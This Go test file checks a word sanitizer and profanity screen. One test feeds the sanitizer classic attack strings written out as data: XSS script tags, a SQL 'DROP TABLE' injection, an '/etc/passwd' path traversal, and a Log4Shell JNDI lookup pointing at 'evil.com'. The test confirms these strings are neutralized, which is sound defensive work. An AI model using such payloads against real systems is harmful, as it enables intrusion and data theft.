package validation

import (
	"errors"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestSanitize(t *testing.T) {
	tests := []struct {
		name   string
		raw    any
		want   string
		wantOK bool
	}{
		{"plain word", "hello", "hello", true},
		{"capitalized", "Hello", "hello", true},
		{"hyphen", "co-worker", "co-worker", true},
		{"apostrophe", "don't", "don't", true},
		{"surrounding whitespace", "  happy\t\n", "happy", true},
		{"script tag stripped", "hello<script>", "helloscript", true},
		{"sql stripped", "hello; DROP TABLE", "hellodroptable", true},
		{"digits stripped", "hello123", "hello", true},
		{"inner space stripped", "ice cream", "icecream", true},
		{"max length", strings.Repeat("a", 50), strings.Repeat("a", 50), true},
		{"too long", strings.Repeat("a", 51), "", false},
		{"too long after filtering", strings.Repeat("ab1", 26), "", false},
		{"empty string", "", "", false},
		{"only whitespace", "   ", "", false},
		{"only digits", "12345", "", false},
		{"only symbols", "<>{}$%", "", false},
		{"unicode letters stripped", "日本語", "", false},
		{"accented letters stripped", "café", "caf", true},
		{"nil", nil, "", false},
		{"int", 123, "", false},
		{"float", 1.5, "", false},
		{"bool", true, "", false},
		{"slice", []any{"hello"}, "", false},
		{"map", map[string]any{"word": "hello"}, "", false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, ok := Sanitize(tt.raw)
			if ok != tt.wantOK {
				t.Fatalf("Sanitize(%#v) ok = %v, want %v", tt.raw, ok, tt.wantOK)
			}
			if got.String() != tt.want {
				t.Errorf("Sanitize(%#v) = %q, want %q", tt.raw, got.String(), tt.want)
			}
			if !ok && !got.IsZero() {
				t.Errorf("rejected input returned non-zero word %q", got.String())
			}
		})
	}
}

func TestSanitizeOutputInvariant(t *testing.T) {
	inputs := []string{
		"<script>alert('xss')</script>",
		"'; DROP TABLE users; --",
		"../../etc/passwd",
		"${jndi:ldap://evil.com/a}",
		"{{7*7}}",
		"%3Cscript%3Ealert('xss')%3C/script%3E",
		"Ünïcödé-Wörd",
		"\x00\x01null\x7f",
		strings.Repeat("x-", 30),
	}

	for _, in := range inputs {
		w, ok := Sanitize(in)
		if !ok {
			continue
		}
		s := w.String()
		assert.GreaterOrEqual(t, len(s), 1, in)
		assert.LessOrEqual(t, len(s), MaxWordLength, in)
		for _, c := range s {
			if !(c >= 'a' && c <= 'z') && c != '-' && c != '\'' {
				t.Errorf("Sanitize(%q) = %q contains %q", in, s, c)
			}
		}
	}
}

func TestIsSanitized(t *testing.T) {
	assert.True(t, IsSanitized("happy"))
	assert.True(t, IsSanitized("o'clock"))
	assert.False(t, IsSanitized("Happy"))
	assert.False(t, IsSanitized("two words"))
	assert.False(t, IsSanitized(""))
}

type stubFilter struct {
	enabled bool
	terms   []string
	blocked []string // exact sanitized words
}

func (f stubFilter) Enabled() bool { return f.enabled }

func (f stubFilter) ContainsProfanity(text string) bool {
	for _, t := range f.terms {
		if strings.Contains(text, t) {
			return true
		}
	}
	return false
}

func (f stubFilter) IsBlocked(w SanitizedWord) bool {
	return f.enabled && slices.Contains(f.blocked, w.String())
}

func TestScreenCheck(t *testing.T) {
	enabled := stubFilter{enabled: true, terms: []string{"badword"}}
	disabled := stubFilter{enabled: false, terms: []string{"badword"}}

	tests := []struct {
		name    string
		filter  ContentFilter
		raw     any
		want    string
		wantErr error
	}{
		{"clean word", enabled, "Happy", "happy", nil},
		{"blocked", enabled, "badword", "", ErrInappropriate},
		{"blocked after filtering", enabled, "BAD word!", "", ErrInappropriate},
		{"blocked even when too long", enabled, "badword" + strings.Repeat("a", 60), "", ErrInappropriate},
		{"too long clean word", enabled, strings.Repeat("a", 51), "", ErrInvalidFormat},
		{"non-string", enabled, 42, "", ErrInvalidFormat},
		{"nil", enabled, nil, "", ErrInvalidFormat},
		{"empty after filtering", enabled, "123", "", ErrInvalidFormat},
		{"filter disabled passes", disabled, "badword", "badword", nil},
		{"nil filter passes", nil, "badword", "badword", nil},
		{"blocked sanitized word", stubFilter{enabled: true, blocked: []string{"happy"}}, " HaPPy! ", "", ErrInappropriate},
		{"blocked sanitized word, filter disabled", stubFilter{blocked: []string{"happy"}}, "happy", "happy", nil},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := NewScreen(tt.filter).Check(tt.raw)
			if !errors.Is(err, tt.wantErr) {
				t.Fatalf("Check(%#v) err = %v, want %v", tt.raw, err, tt.wantErr)
			}
			assert.Equal(t, tt.want, got.String())
		})
	}
}
